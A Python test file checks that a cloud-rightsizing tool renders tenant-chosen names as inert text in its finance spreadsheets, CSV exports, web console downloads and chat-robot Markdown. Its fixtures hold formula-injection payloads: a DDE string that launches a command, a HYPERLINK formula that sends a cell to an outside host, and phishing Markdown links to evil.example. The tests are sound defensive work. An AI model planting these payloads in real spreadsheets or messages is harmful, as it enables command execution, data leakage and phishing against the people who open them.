"""Tenants' names as an attacker writes them (issue 24, points 1 and 2). Server and system names come from VM and
project names the tenants choose; through the CLI, the console (real HTTP to uvicorn) and the IM robots:

* in finance's files — the monthly report and the evaluation export, xlsx and CSV — a name such as
  ``=HYPERLINK("http://x/?"&C2,"详情")`` or ``=cmd|' /C calc'!A0`` is a text cell, never a formula, and a URL is
  never a hyperlink; in CSV a cell that would start a formula carries a leading apostrophe (OWASP), numbers stay
  numbers. The notice's own xlsx, attached to its email, likewise;
* in the Markdown an IM robot renders, ``[点此核对](http://evil)`` is shown, never a link.
"""
from __future__ import annotations

import csv
import io
import re

import httpx
import openpyxl
import pytest

from fake_im import FakeIM
from rightsizer.cli import main

from helpers import AT, with_stdin
from servers import uvicorn_serving
from test_evaluate_cli import INV_HEADER, write_inputs

FORMULA = '=HYPERLINK("http://x/?"&C2,"详情")'
DDE = "=cmd|' /C calc'!A0"
URL = "http://evil.example/login"
MD_LINK = "[点此核对](http://evil.example/x)"
PLUS = "+1-2"
DEPT = "@SUM(1)市教育局"  # a project name: the department column of every sheet and CSV
ARCHIVE = "[市档案馆](http://evil.example/d)"  # a project name with a link: the monthly report's summary names it
HOSTILE = (FORMULA, DDE, URL, MD_LINK, PLUS)
PASSWORD = "correct horse battery"


@pytest.fixture(scope="module")
def city(tmp_path_factory):
    """The archive's idle server renamed by its tenant, the approval bureau's systems too; a month evaluated."""
    import os

    d = tmp_path_factory.mktemp("hostile")
    inv, samples = write_inputs(d)
    rows = inv.read_text(encoding="utf-8").splitlines()

    def q(s: str) -> str:
        return '"' + s.replace('"', '""') + '"'

    renamed = [INV_HEADER,
               f"idle-1,{q(FORMULA)},{q(ARCHIVE)},{q(DDE)},4,8,100,2025-01-10T09:00:00+08:00",
               f"big-1,{q(MD_LINK)},市行政审批服务局,{q(URL)},16,64,500,2025-03-01",
               f"hot-1,{q(PLUS)},市行政审批服务局,政务服务平台,4,8,200,2025-03-01T00:00:00+08:00",
               rows[4].replace("市教育和体育局", q(DEPT))]
    inv.write_text("\n".join(renamed) + "\n", encoding="utf-8")
    fake = FakeIM(webhook_secret="oa-secret")
    fake.__enter__()
    os.environ["RS_HOSTILE_WH"] = "oa-secret"
    cfg = d / "rs.toml"
    cfg.write_text(f'[store]\nstate_dir = "{d}"\n'
                   f'[[notifiers]]\nname = "oa"\ntype = "webhook"\nurl = "{fake.url}/webhook"\n'
                   'secret = { env = "RS_HOSTILE_WH" }\n'
                   + '[reports]\nchannels = ["oa"]\n'
                   + "".join(f'[departments."{x}"]\nchannels = ["oa"]\n' for x in (ARCHIVE, "市行政审批服务局")),
                   encoding="utf-8")
    common = ["--config", str(cfg)]
    assert main(["evaluate", "--inventory", str(inv), "--samples", str(samples), "--at", AT.isoformat(), *common]) == 0
    assert main(["sweep", "--now", "2026-11-23T09:00:00+08:00", *common]) == 0
    assert main(["deliver", "--now", "2026-11-23T09:05:00+08:00", *common]) == 0
    # the month's report to finance's channel, as the daemon's reports job sends it on 1 December
    from datetime import datetime
    from zoneinfo import ZoneInfo

    from rightsizer.calendar import WorkCalendar
    from rightsizer.db import Store
    from rightsizer.jobs import reports
    from rightsizer.settings import load_settings

    settings = load_settings(cfg)
    reports.send_monthly(Store.open(settings.store.resolved_url()), settings, WorkCalendar(),
                         datetime(2026, 12, 1, 9, tzinfo=ZoneInfo("Asia/Shanghai")))
    assert main(["deliver", "--now", "2026-12-01T09:05:00+08:00", *common]) == 0
    yield d, common, fake
    fake.__exit__(None, None, None)
    os.environ.pop("RS_HOSTILE_WH", None)


def _no_live_cells(data: bytes) -> list[str]:
    """What Excel would run or follow in a workbook: formulas other than our own totals, and every hyperlink."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    bad = []
    for ws in wb.worksheets:
        bad += [f"{ws.title}!{h.ref} hyperlink" for h in ws._hyperlinks]
        for row in ws.iter_rows():
            for c in row:
                if c.hyperlink is not None:
                    bad.append(f"{ws.title}!{c.coordinate} hyperlink")
                if c.data_type == "f" and not re.fullmatch(r"=(SUM\([A-Z]+\d+:[A-Z]+\d+\)|IF\(.*\))", str(c.value)):
                    bad.append(f"{ws.title}!{c.coordinate} formula {c.value!r}")
    return bad


def _texts(data: bytes) -> set[str]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "s" and isinstance(c.value, str)}


def test_finances_workbooks_hold_the_names_as_text(city, capsys):
    d, common, _ = city
    for argv, name in ((["report", "monthly", "--month", "2026-11"], "m.xlsx"),
                       (["report", "evaluation", "--year", "2026", "--quarter", "4"], "e.xlsx")):
        out = d / name
        assert main([*argv, *common, "--out", str(out), "--now", "2026-12-01T09:00:00+08:00"]) == 0
        data = out.read_bytes()
        assert _no_live_cells(data) == []
        if name == "m.xlsx":  # the server detail and the system subtotals carry the names, as written
            assert {FORMULA, DDE, URL, MD_LINK, PLUS} <= _texts(data)
    capsys.readouterr()


def test_finances_csv_neutralises_a_cell_that_would_start_a_formula(city, capsys):
    d, common, _ = city
    capsys.readouterr()
    assert main(["report", "monthly", "--month", "2026-11", "--format", "csv", "--out", "-", *common,
                 "--now", "2026-12-01T09:00:00+08:00"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out.lstrip("\ufeff"))))
    assert rows[0][0] == "部门" and all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r)
    assert "'" + DEPT in [r[0] for r in rows]  # shown as written, behind the apostrophe Excel hides
    money = rows[0].index("本月费用（元）")
    assert all(re.fullmatch(r"\d+\.\d\d|—", r[money]) for r in rows[1:])  # numbers stay numbers


def test_the_notices_own_xlsx_is_text_too(city):
    import sqlite3

    d, _, _ = city
    con = sqlite3.connect(d / "rightsizer.db")
    files = con.execute("select content from notice_documents where kind = 'xlsx'").fetchall()
    con.close()
    assert files
    for (data,) in files:
        assert _no_live_cells(bytes(data)) == []
    assert FORMULA in set().union(*(_texts(bytes(f)) for (f,) in files))


def test_an_im_robots_markdown_shows_a_name_never_a_link(city):
    _, _, fake = city
    bodies = [b for _, b in fake.received]
    assert bodies
    for b in bodies:
        md = b["markdown"]
        assert "](http" not in md and "http://evil" not in md, md
    archive = next(b for b in bodies if "市档案馆" in b["markdown"])
    assert "＝HYPERLINK" not in archive["markdown"] and "=HYPERLINK（" in archive["markdown"]  # shown, defanged
    approval = next(b for b in bodies if "市行政审批服务局" in b["markdown"])
    assert "［点此核对］（http：//evil.example/x）" in approval["markdown"]
    report = next(b for b in bodies if "资源浪费报告" in b["subject"])
    assert "［市档案馆］（http：//evil.example/d）" in report["markdown"]  # the summary's top departments
    assert re.findall(r"\]\((\S+?)\)", report["markdown"]) == [] or all(
        u.startswith("http://127.0.0.1") for u in re.findall(r"\]\((\S+?)\)", report["markdown"]))


@pytest.fixture(scope="module")
def served(city):
    from rightsizer.db import Store
    from rightsizer.settings import load_settings
    from rightsizer.web.app import create_app
    d, common, _ = city
    assert with_stdin(PASSWORD + "\n", ["users", "add", "czj", "--role", "finance", *common]) == 0
    settings = load_settings(common[1])
    from datetime import datetime
    from zoneinfo import ZoneInfo

    now = datetime(2026, 12, 1, 9, tzinfo=ZoneInfo("Asia/Shanghai"))
    with uvicorn_serving(create_app(settings, Store.open(settings.store.resolved_url()), lambda: now)) as base:
        yield base


def test_the_console_serves_the_same_safe_files(served):
    with httpx.Client(base_url=served, follow_redirects=False) as c:
        csrf = re.search(r'name="csrf" value="([^"]+)"', c.get("/login").text).group(1)
        assert c.post("/login", data={"name": "czj", "password": PASSWORD, "csrf": csrf, "next": "/"}).status_code == 303
        xlsx = c.get("/reports/monthly?month=2026-11&format=xlsx")
        assert xlsx.status_code == 200 and _no_live_cells(xlsx.content) == []
        assert FORMULA in _texts(xlsx.content)
        text = c.get("/reports/monthly?month=2026-11&format=csv").content.decode("utf-8-sig")
        assert all(not cell.startswith(("=", "+", "-", "@")) for r in csv.reader(io.StringIO(text)) for cell in r)
        ev = c.get("/reports/evaluation?year=2026&quarter=4&format=xlsx")
        assert ev.status_code == 200 and _no_live_cells(ev.content) == []
